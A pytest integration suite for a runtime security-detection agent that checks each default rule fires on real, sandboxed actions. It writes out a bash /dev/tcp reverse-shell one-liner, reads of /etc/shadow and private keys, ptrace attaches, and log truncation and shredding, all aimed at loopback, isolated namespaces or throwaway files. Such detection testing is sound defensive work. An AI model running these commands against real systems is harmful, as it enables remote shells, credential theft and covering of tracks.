"""Every rule of andon's default rules file fires on the real thing.

One `andon run --rules andon_rules.yaml` agent serves the whole module; each test does
the real action (real processes, files, podman containers, a network namespace) with a
random marker in a path or command line, and waits for *its* alert by that marker.

Nothing here touches real system state beyond files with random names that the test
removes: /usr/local/bin/andon-test-<rand>, /etc/andon-test-<rand>,
/var/log/andon-test-<rand>.log. No kernel module is ever loaded: the module syscalls
get a file that is not a module, and fail. Containers run with --network none, or in a
network namespace the test creates (a dummy interface, nothing routed out).
"""

from __future__ import annotations

import ctypes
import os
import secrets
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent import DEFAULT_RULES, AgentRun, Alert

IMAGE = "localhost/andon-test:bookworm"
PODMAN_RUN = [
    "podman", "run", "--rm", "--runtime", "runc",
    "--ulimit", "nofile=4096:4096", "--ulimit", "nproc=4096:4096",
]  # fmt: skip


def _skip_reason() -> str | None:
    if os.geteuid() != 0:
        return "needs root (the live sensor)"
    try:
        import andon.rules.loader  # noqa: F401
    except ImportError as e:
        return f"andon.rules.loader has not landed yet ({e})"
    return None


_reason = _skip_reason()
pytestmark = pytest.mark.skipif(_reason is not None, reason=_reason or "")


def mark() -> str:
    return "andon" + secrets.token_hex(4)


# --- helpers ------------------------------------------------------------------------------


def of(a: Alert, field: str) -> object:
    return a["output_fields"].get(field)


def run(cmd: list[str], timeout: float = 60, check: bool = True, **kw) -> subprocess.CompletedProcess[str]:
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, check=check, **kw)


def have_image() -> bool:
    return run(["podman", "image", "exists", IMAGE], check=False).returncode == 0


def podman(
    tmp_path: Path, args: list[str], cmd: list[str], network: str = "none", timeout: float = 60
) -> tuple[str, subprocess.CompletedProcess[str]]:
    """Run a container to completion; return its 12-character id (container.id) and the result."""
    if not have_image():
        pytest.skip(f"{IMAGE} not built (make test-image)")
    cidfile = tmp_path / f"cid-{secrets.token_hex(3)}"
    p = run([*PODMAN_RUN, "--network", network, "--cidfile", str(cidfile), *args, IMAGE, *cmd],
            timeout=timeout, check=False)  # fmt: skip
    cid = cidfile.read_text().strip()[:12] if cidfile.exists() else ""
    assert cid, f"podman run failed: {p.stderr}"
    return cid, p


def copy_as(tmp_path: Path, src: str, name: str) -> Path:
    """A copy of a real binary under another name: proc.name is what the kernel calls it."""
    d = tmp_path / secrets.token_hex(3)
    d.mkdir()
    dst = d / name
    shutil.copy2(src, dst)
    return dst


class Listener:
    """A TCP server on (host, port) in the current or a given netns, run as a child process:
    accepts one connection, sends ``say``, reads until EOF or ``timeout``."""

    CODE = textwrap.dedent(
        """
        import socket, sys
        host, port, say, timeout = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((host, port)); s.listen(1); print("listening", flush=True)
        s.settimeout(timeout)
        c, _ = s.accept(); c.settimeout(timeout)
        c.sendall(say.encode())
        try:
            while c.recv(4096):
                pass
        except OSError:
            pass
        """
    )

    def __init__(self, host: str, say: str = "", netns: str | None = None, timeout: float = 15) -> None:
        self.host = host
        self.port = _free_port() if netns is None else 40000 + secrets.randbelow(20000)
        pre = ["ip", "netns", "exec", netns] if netns else []
        self.proc = subprocess.Popen(
            [*pre, sys.executable, "-c", self.CODE, host, str(self.port), say, str(timeout)],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline()
        assert line.strip() == "listening", self.proc.stderr.read() if self.proc.stderr else ""

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(5)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def agent() -> Iterator[AgentRun]:
    with AgentRun(["--rules", str(DEFAULT_RULES)], ready_timeout=60) as a:
        yield a
    assert a.returncode == 0, "\n".join(a.stderr_lines[-20:])


@pytest.fixture(scope="module")
def netns() -> Iterator[tuple[str, str]]:
    """A network namespace whose lo also holds 10.231.X.1: a non-loopback address for a
    container to connect to, reachable from nowhere else."""
    name = "andon-t-" + secrets.token_hex(3)
    addr = f"10.231.{secrets.randbelow(250) + 1}.1"
    run(["ip", "netns", "add", name])
    try:
        run(["ip", "-n", name, "link", "set", "lo", "up"])
        # a second address on the namespace's own lo: no dummy/veth module needed
        run(["ip", "-n", name, "addr", "add", f"{addr}/32", "dev", "lo"])
        yield name, addr
    finally:
        run(["ip", "netns", "del", name], check=False)


# --- Shell spawned in container ---------------------------------------------------------------


def test_shell_spawned_in_container(agent: AgentRun, tmp_path: Path) -> None:
    m = mark()
    # TRIGGER: bash as the container's entrypoint, which runs a second shell (no second alert)
    cid, p = podman(tmp_path, [], ["bash", "-c", f"sh -c 'echo {m}'; true"])
    assert m in p.stdout
    # ASSERT
    a = agent.wait_for("Shell spawned in container", lambda a: of(a, "container.id") == cid)
    assert a["priority"] == "Notice"
    assert of(a, "proc.name") == "bash"
    assert m in str(of(a, "proc.cmdline"))
    assert of(a, "proc.exepath") == "/usr/bin/bash"
    assert "T1059.004" in a["tags"]
    agent.settle(1.0)
    assert [of(x, "proc.name") for x in agent.of_rule("Shell spawned in container") if of(x, "container.id") == cid] == [
        "bash"
    ], "the inner sh (parent is a shell) must not alert"


# --- Sensitive file read ------------------------------------------------------------------------


def test_sensitive_file_read_shadow(agent: AgentRun) -> None:
    m = mark()
    # TRIGGER: grep reads /etc/shadow looking for a string that is not there
    p = run(["grep", "-c", m, "/etc/shadow"], check=False)
    assert p.returncode == 1
    # ASSERT
    a = agent.wait_for("Sensitive file read by untrusted program", lambda a: m in str(of(a, "proc.cmdline")))
    assert a["priority"] == "Warning"
    assert of(a, "fd.name") == "/etc/shadow"
    assert of(a, "proc.name") == "grep"
    assert of(a, "user.name") == "root"
    assert of(a, "container.id") == "host"
    assert "T1003.008" in a["tags"]


def test_sensitive_file_read_private_keys(agent: AgentRun, tmp_path: Path) -> None:
    m = mark()
    home = Path("/root") / f".{m}"  # a home directory: *.pem / *.key count only there
    home.mkdir()
    try:
        key = home / "id_ed25519"
        pem = home / "server-key.pem"
        ca = home / "ca-bundle.pem"  # a public bundle: not a key
        ca.write_text("-----BEGIN CERTIFICATE-----\n")
        for f in (key, pem):
            f.write_text("-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n")
        trusted = copy_as(tmp_path, "/usr/bin/cat", "ssh-add")  # on andon_sensitive_file_readers
        # TRIGGER: a trusted reader first (must not alert), then cat
        run([str(trusted), str(key)])
        run(["cat", str(key), str(pem), str(ca)])
        # ASSERT
        for f in (key, pem):
            a = agent.wait_for("Sensitive file read by untrusted program", lambda a, f=f: of(a, "fd.name") == str(f))
            assert of(a, "proc.name") == "cat"
            assert "T1552.004" in a["tags"]
        agent.settle(0.5)
        seen = {(of(a, "proc.name"), of(a, "fd.name")) for a in agent.of_rule("Sensitive file read by untrusted program")
                if m in str(of(a, "fd.name"))}  # fmt: skip
        assert seen == {("cat", str(key)), ("cat", str(pem))}
    finally:
        shutil.rmtree(home)


# --- Outbound connection from a container, and reverse shells ------------------------------------


def test_unexpected_outbound_connection_from_container(agent: AgentRun, netns: tuple[str, str], tmp_path: Path) -> None:
    ns, addr = netns
    m = mark()
    lst = Listener(addr, netns=ns)
    try:
        # TRIGGER: bash's /dev/tcp connects to a listener on the namespace's dummy address
        cid, p = podman(tmp_path, [], ["bash", "-c", f"exec 3<>/dev/tcp/{addr}/{lst.port}; echo {m} >&3"],
                        network=f"ns:/run/netns/{ns}")  # fmt: skip
        assert p.returncode == 0, p.stderr
    finally:
        lst.close()
    # ASSERT
    a = agent.wait_for("Unexpected outbound connection from container", lambda a: of(a, "container.id") == cid)
    assert a["priority"] == "Notice"
    assert of(a, "fd.sip") == addr
    assert of(a, "fd.sport") == lst.port
    assert of(a, "fd.l4proto") == "tcp"
    assert of(a, "proc.name") == "bash"
    assert f"{addr}:{lst.port}" in str(of(a, "fd.name"))
    assert "T1071" in a["tags"]
    # `echo >&3` put the socket on stdout for a moment: output only, not a reverse shell
    agent.settle(0.5)
    assert [x for x in agent.of_rule("Reverse shell") if of(x, "container.id") == cid] == []


def test_outbound_allowed_by_appended_list(netns: tuple[str, str], tmp_path: Path) -> None:
    """Tuning: a rules file appended after the defaults allows the test network; the same
    connection then raises no alert (and the shell rule shows the agent saw the container)."""
    ns, addr = netns
    local = tmp_path / "local_rules.yaml"
    net = addr.rsplit(".", 1)[0] + ".0/24"
    local.write_text(
        textwrap.dedent(
            f"""\
            - list: andon_allowed_outbound_networks
              items: ['"{net}"']
              override:
                items: append
            """
        )
    )
    with AgentRun(["--rules", str(DEFAULT_RULES), "--rules", str(local)], ready_timeout=60) as ag:
        lst = Listener(addr, netns=ns)
        try:
            cid, p = podman(tmp_path, [], ["bash", "-c", f"exec 3<>/dev/tcp/{addr}/{lst.port}; echo hi >&3"],
                            network=f"ns:/run/netns/{ns}")  # fmt: skip
            assert p.returncode == 0, p.stderr
        finally:
            lst.close()
        ag.wait_for("Shell spawned in container", lambda a: of(a, "container.id") == cid)
        ag.settle(1.5)
        assert [a for a in ag.of_rule("Unexpected outbound connection from container") if of(a, "container.id") == cid] == []


def test_reverse_shell_on_host(agent: AgentRun) -> None:
    m = mark()
    lst = Listener("127.0.0.1", say=f"echo {m}; exit\n")
    try:
        # TRIGGER: the classic one-liner; the listener makes the shell echo and exit
        cmd = f"bash -i >& /dev/tcp/127.0.0.1/{lst.port} 0>&1 # {m}"
        p = run(["bash", "-c", cmd], timeout=20, check=False, stdin=subprocess.DEVNULL)
    finally:
        lst.close()
    # ASSERT: `>&` puts the socket on 1 and 2, `0>&1` on stdin: one alert, for stdin
    a = agent.wait_for(
        "Reverse shell", lambda a: m in str(of(a, "proc.cmdline")) and f"127.0.0.1:{lst.port}" in str(of(a, "fd.name"))
    )
    assert of(a, "evt.rawres") == 0
    assert a["priority"] == "Critical", p.stderr
    assert of(a, "proc.name") == "bash"
    assert of(a, "fd.sip") == "127.0.0.1"
    assert of(a, "fd.sport") == lst.port
    assert of(a, "container.id") == "host"
    assert "T1059.004" in a["tags"]
    agent.settle(0.5)
    assert [of(x, "evt.rawres") for x in agent.of_rule("Reverse shell") if m in str(of(x, "proc.cmdline"))] == [0]


def test_reverse_shell_in_container(agent: AgentRun, netns: tuple[str, str], tmp_path: Path) -> None:
    ns, addr = netns
    m = mark()
    lst = Listener(addr, say=f"echo {m}; exit\n", netns=ns)
    try:
        cid, p = podman(tmp_path, [], ["bash", "-c", f"bash -i >& /dev/tcp/{addr}/{lst.port} 0>&1"],
                        network=f"ns:/run/netns/{ns}")  # fmt: skip
    finally:
        lst.close()
    a = agent.wait_for("Reverse shell", lambda a: of(a, "container.id") == cid and of(a, "evt.rawres") == 0)
    assert of(a, "fd.sip") == addr
    assert of(a, "proc.name") == "bash"
    assert a["priority"] == "Critical"


# --- Privileged container ------------------------------------------------------------------------


def test_privileged_container_started(agent: AgentRun, tmp_path: Path) -> None:
    m = mark()
    # TRIGGER
    cid, p = podman(tmp_path, ["--privileged"], ["sh", "-c", f"sleep 1; echo {m}"])
    assert m in p.stdout
    # ASSERT
    a = agent.wait_for("Privileged container started", lambda a: of(a, "container.id") == cid)
    assert a["priority"] == "Warning"
    assert of(a, "proc.name") == "sh"
    assert m in str(of(a, "proc.cmdline"))
    assert "CAP_SYS_ADMIN" in str(of(a, "thread.cap_effective"))
    assert "T1611" in a["tags"]


def test_unprivileged_container_is_not_privileged(agent: AgentRun, tmp_path: Path) -> None:
    cid, _ = podman(tmp_path, [], ["sh", "-c", "sleep 1"])
    agent.wait_for("Shell spawned in container", lambda a: of(a, "container.id") == cid)
    agent.settle(1.0)
    fired = [a for a in agent.of_rule("Privileged container started") if of(a, "container.id") == cid]
    assert fired == [], [a["output"] for a in fired]  # whole, with proc.name and cap_effective


# --- Crypto miners -------------------------------------------------------------------------------


def test_crypto_miner_by_name(agent: AgentRun, tmp_path: Path) -> None:
    m = mark()
    xmrig = copy_as(tmp_path, "/usr/bin/true", "xmrig")
    run([str(xmrig), "--threads=1", m])
    a = agent.wait_for("Crypto miner executed", lambda a: m in str(of(a, "proc.cmdline")))
    assert a["priority"] == "Critical"
    assert of(a, "proc.name") == "xmrig"
    assert of(a, "proc.exepath") == str(xmrig)
    assert "T1496" in a["tags"]


def test_crypto_miner_by_cmdline(agent: AgentRun) -> None:
    m = mark()
    run(["/usr/bin/true", "-o", f"stratum+tcp://{m}.invalid:3333", "--donate-level=1"])
    a = agent.wait_for("Crypto miner executed", lambda a: m in str(of(a, "proc.cmdline")))
    assert of(a, "proc.name") == "true"


# --- Writes below system directories ---------------------------------------------------------


def test_write_below_binary_directory(agent: AgentRun, tmp_path: Path) -> None:
    m = mark()
    target = Path(f"/usr/local/bin/andon-test-{m}")
    moved = Path(f"/usr/local/bin/andon-test-{m}-mv")
    src = Path(f"/usr/local/andon-test-{m}")  # same filesystem as /usr/local/bin: mv renames
    try:
        # TRIGGER: a shell redirection creates a file there; mv renames one in
        run(["sh", "-c", f"echo '#!/bin/sh' > {target}"])
        src.write_text("x")
        run(["mv", str(src), str(moved)])
        # ASSERT
        a = agent.wait_for("Write below binary directory", lambda a: of(a, "fd.name") == str(target))
        assert a["priority"] == "Error"
        assert of(a, "proc.name") == "sh"
        assert of(a, "evt.type") in ("openat", "open")
        b = agent.wait_for("Write below binary directory", lambda a: of(a, "evt.arg.newpath") == str(moved))
        assert of(b, "proc.name") == "mv"
        assert of(b, "evt.type") in ("rename", "renameat", "renameat2")
        assert "T1574" in a["tags"]
    finally:
        for f in (target, moved, src):
            f.unlink(missing_ok=True)


def test_write_below_etc(agent: AgentRun) -> None:
    m = mark()
    target = Path(f"/etc/andon-test-{m}")
    try:
        run(["sh", "-c", f"echo x > {target}"])
        a = agent.wait_for("Write below etc directory", lambda a: of(a, "fd.name") == str(target))
        assert a["priority"] == "Warning"
        assert of(a, "proc.name") == "sh"
        assert "O_TRUNC" in str(of(a, "evt.arg.flags"))
        assert "mitre_persistence" in a["tags"]
    finally:
        target.unlink(missing_ok=True)


# --- Package manager in a container -------------------------------------------------------------


def test_package_manager_run_in_container(agent: AgentRun, tmp_path: Path) -> None:
    # TRIGGER: apt-get as the entrypoint (offline: `check` reads the local cache only)
    cid, p = podman(tmp_path, [], ["apt-get", "check"])
    assert p.returncode == 0, p.stderr
    a = agent.wait_for("Package manager run in container", lambda a: of(a, "container.id") == cid)
    assert a["priority"] == "Warning"
    assert of(a, "proc.name") == "apt-get"
    assert of(a, "proc.cmdline") == "apt-get check"
    # dpkg started from a shell alerts too
    cid2, _ = podman(tmp_path, [], ["sh", "-c", "dpkg -l >/dev/null"])
    b = agent.wait_for("Package manager run in container", lambda a: of(a, "container.id") == cid2)
    assert of(b, "proc.name") == "dpkg"
    assert of(b, "proc.pname") == "sh"
    # dpkg -l execs dpkg-query in the same process: still one alert
    agent.settle(0.5)
    assert [of(x, "proc.name") for x in agent.of_rule("Package manager run in container") if of(x, "container.id") == cid2] == [
        "dpkg"
    ]


def test_package_manager_on_host_is_not_alerted(agent: AgentRun) -> None:
    m = mark()
    run(["dpkg-query", "-W", "-f", "${Package}\\n", "coreutils"])
    run(["sh", "-c", f"dpkg -l >/dev/null # {m}"])
    agent.settle(1.0)
    assert [a for a in agent.of_rule("Package manager run in container") if of(a, "container.id") == "host"] == []


# --- ptrace --------------------------------------------------------------------------------------

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206


def _ptrace(request: int, pid: int) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    return libc.ptrace(request, pid, None, None)


def test_ptrace_attach_and_seize(agent: AgentRun) -> None:
    m = mark()
    # TRIGGER: attach to one sleeping child and seize another, from a helper process (the
    # test process itself is traced by the agent like any other)
    code = textwrap.dedent(
        """
        import ctypes, os, sys
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        a, b = int(sys.argv[1]), int(sys.argv[2])
        assert libc.ptrace(16, a, None, None) == 0, ctypes.get_errno()     # PTRACE_ATTACH
        os.waitpid(a, 0)
        libc.ptrace(17, a, None, None)                                      # PTRACE_DETACH
        assert libc.ptrace(0x4206, b, None, None) == 0, ctypes.get_errno()  # PTRACE_SEIZE
        libc.ptrace(17, b, None, None)
        """
    )
    t1 = subprocess.Popen(["sleep", "30"])
    t2 = subprocess.Popen(["sleep", "30"])
    try:
        run([sys.executable, "-c", code, str(t1.pid), str(t2.pid), m], timeout=20)
    finally:
        for t in (t1, t2):
            t.kill()
            t.wait()
    a = agent.wait_for("Ptrace attach to process", lambda a: m in str(of(a, "proc.cmdline")) and str(of(a, "evt.arg.pid")) == str(t1.pid))
    assert a["priority"] == "Warning"
    assert of(a, "evt.arg.request") == "PTRACE_ATTACH"
    assert of(a, "evt.res") == "SUCCESS"
    assert of(a, "proc.name") == "python3" or str(of(a, "proc.name")).startswith("python")
    assert "T1055.008" in a["tags"]
    b = agent.wait_for("Ptrace attach to process", lambda a: m in str(of(a, "proc.cmdline")) and str(of(a, "evt.arg.pid")) == str(t2.pid))
    assert of(b, "evt.arg.request") == "PTRACE_SEIZE"


def test_ptrace_attach_failure_still_alerts(agent: AgentRun) -> None:
    # A process may not attach to its own thread group: EPERM, and still an attempt.
    code = "import ctypes,os; l=ctypes.CDLL(None); l.ptrace.argtypes=[ctypes.c_long]*2+[ctypes.c_void_p]*2; " \
           "print(l.ptrace(16, os.getpid(), None, None))"  # fmt: skip
    m = mark()
    p = run([sys.executable, "-c", code, m])
    assert p.stdout.strip() == "-1"
    a = agent.wait_for("Ptrace attach to process", lambda a: m in str(of(a, "proc.cmdline")))
    assert of(a, "evt.res") == "EPERM"
    assert of(a, "evt.arg.request") == "PTRACE_ATTACH"


# --- Kernel modules ------------------------------------------------------------------------------

SYS_INIT_MODULE, SYS_FINIT_MODULE = 175, 313  # x86_64


def test_kernel_module_load_attempt_fails_and_alerts(agent: AgentRun, tmp_path: Path) -> None:
    m = mark()
    notamodule = tmp_path / f"{m}.ko"
    notamodule.write_bytes(b"this is not an ELF object\n" * 8)
    # TRIGGER: finit_module on a file that is not a module, init_module on a junk buffer;
    # the kernel refuses both (ENOEXEC or a signature error) before anything is loaded.
    code = textwrap.dedent(
        f"""
        import ctypes, os, sys
        libc = ctypes.CDLL(None, use_errno=True)
        fd = os.open({str(notamodule)!r}, os.O_RDONLY)
        r1 = libc.syscall({SYS_FINIT_MODULE}, fd, b"{m}_f=1", 0); e1 = ctypes.get_errno()
        buf = b"junk" * 16
        r2 = libc.syscall({SYS_INIT_MODULE}, buf, len(buf), b"{m}_i=1"); e2 = ctypes.get_errno()
        print(r1, e1, r2, e2)
        """
    )
    p = run([sys.executable, "-c", code])
    r1, _e1, r2, _e2 = map(int, p.stdout.split())
    assert r1 == -1 and r2 == -1, "the kernel must have refused both"
    a = agent.wait_for("Kernel module load attempt", lambda a: f"{m}_f=1" in str(of(a, "evt.arg.uargs")))
    assert a["priority"] == "Warning"
    assert of(a, "evt.type") == "finit_module"
    assert of(a, "evt.res") != "SUCCESS"
    assert of(a, "fd.name") == str(notamodule)
    assert "T1547.006" in a["tags"]
    b = agent.wait_for("Kernel module load attempt", lambda a: f"{m}_i=1" in str(of(a, "evt.arg.uargs")))
    assert of(b, "evt.type") == "init_module"
    assert of(b, "evt.res") != "SUCCESS"


def test_kernel_module_tool_executed(agent: AgentRun, tmp_path: Path) -> None:
    m = mark()
    insmod = copy_as(tmp_path, "/usr/bin/true", "insmod")  # kmod is not installed; the name is what counts
    run([str(insmod), f"/nonexistent/{m}.ko"])
    a = agent.wait_for("Kernel module tool executed", lambda a: m in str(of(a, "proc.cmdline")))
    assert a["priority"] == "Notice"
    assert of(a, "proc.name") == "insmod"


# --- Log clearing --------------------------------------------------------------------------------


@pytest.fixture
def test_log() -> Iterator[Path]:
    p = Path(f"/var/log/andon-test-{secrets.token_hex(4)}.log")
    with open(p, "x") as f:  # O_CREAT|O_EXCL, no O_TRUNC: creating it is not an alert
        f.write("line one\nline two\n")
    try:
        yield p
    finally:
        p.unlink(missing_ok=True)


def test_log_file_truncated(agent: AgentRun, test_log: Path) -> None:
    # TRIGGER: the shell idiom
    run(["sh", "-c", f": > {test_log}"])
    assert test_log.stat().st_size == 0
    a = agent.wait_for("Log file truncated", lambda a: of(a, "fd.name") == str(test_log))
    assert a["priority"] == "Warning"
    assert of(a, "proc.name") == "sh"
    assert "O_TRUNC" in str(of(a, "evt.arg.flags"))
    assert "T1070.002" in a["tags"]


def test_log_file_deleted(agent: AgentRun, test_log: Path, tmp_path: Path) -> None:
    rotated = test_log.with_suffix(".log.1")
    out = tmp_path / "stolen.log"
    try:
        # TRIGGER: a rename inside /var/log is rotation (no alert); moving it out and
        # removing a file are not
        run(["mv", str(test_log), str(rotated)])
        run(["mv", str(rotated), str(out)])  # same filesystem: rename; else copy + unlink
        second = Path(f"/var/log/andon-test-{mark()}.log")
        second.write_text("x\n")
        run(["rm", str(second)])
        # ASSERT
        a = agent.wait_for(
            "Log file deleted",
            lambda a: str(rotated) in (of(a, "evt.arg.oldpath"), of(a, "evt.arg.name")),
        )
        assert a["priority"] == "Warning"
        assert of(a, "proc.name") == "mv"
        b = agent.wait_for("Log file deleted", lambda a: of(a, "evt.arg.name") == str(second))
        assert of(b, "proc.name") == "rm"
        assert of(b, "evt.type") == "unlinkat"
        assert "T1070.002" in b["tags"]
        agent.settle(0.5)
        assert [x for x in agent.of_rule("Log file deleted") if of(x, "evt.arg.oldpath") == str(test_log)] == []
    finally:
        rotated.unlink(missing_ok=True)


def test_log_clearing_command_executed(agent: AgentRun, test_log: Path) -> None:
    run(["shred", "-u", str(test_log)])
    assert not test_log.exists()
    a = agent.wait_for("Log clearing command executed", lambda a: str(test_log) in str(of(a, "proc.cmdline")))
    assert a["priority"] == "Warning"
    assert of(a, "proc.name") == "shred"
    # shred -u renames the file inside /var/log a dozen times (not alerts), then unlinks it
    b = agent.wait_for("Log file deleted", lambda a: str(test_log) in str(of(a, "proc.cmdline")))
    assert of(b, "proc.name") == "shred"
    assert of(b, "evt.type") in ("unlink", "unlinkat")  # coreutils shred calls unlink()
    agent.settle(0.5)
    assert len([x for x in agent.of_rule("Log file deleted") if str(test_log) in str(of(x, "proc.cmdline"))]) == 1


def test_log_truncate_command(agent: AgentRun, test_log: Path) -> None:
    run(["truncate", "-s", "0", str(test_log)])
    a = agent.wait_for("Log clearing command executed", lambda a: str(test_log) in str(of(a, "proc.cmdline")))
    assert of(a, "proc.name") == "truncate"
